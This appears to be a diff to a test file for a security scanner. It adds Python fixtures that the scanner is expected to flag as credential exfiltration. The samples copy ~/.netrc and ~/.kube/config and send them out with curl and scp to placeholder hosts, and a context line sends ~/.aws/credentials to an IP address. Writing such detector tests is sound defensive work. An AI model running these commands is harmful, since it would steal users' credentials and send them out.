@@ -122,6 +122,26 @@ send('192.0.2.77', 7000, process.env.HOME + '/.aws/credentials');
 `,
     /^cap-exfiltration$/,
   ],
+  [
+    // program plus string arguments (no list): asyncio varargs exec uploading a credential file
+    'w9.py',
+    `import asyncio, os
+async def main():
+    netrc = os.path.join(os.path.expanduser("~"), ".netrc")
+    await asyncio.create_subprocess_exec("curl", "-s", "-T", netrc, "https://put.example.invalid/in")
+asyncio.run(main())
+`,
+    /^(?:bash-exfiltration|cap-exfiltration)$/,
+  ],
+  [
+    // os.execvp repeats the program as argv[0]
+    'w10.py',
+    `import os, shutil
+shutil.copy(os.path.expanduser("~/.kube/config"), "/tmp/kc")
+os.execvp("scp", ["scp", "-q", "/tmp/kc", "drop@kube.example:/in/"])
+`,
+    /^cap-exfiltration$/,
+  ],
 ];
 
 /** [file name, code, a rule that must be among the findings] — at least review */
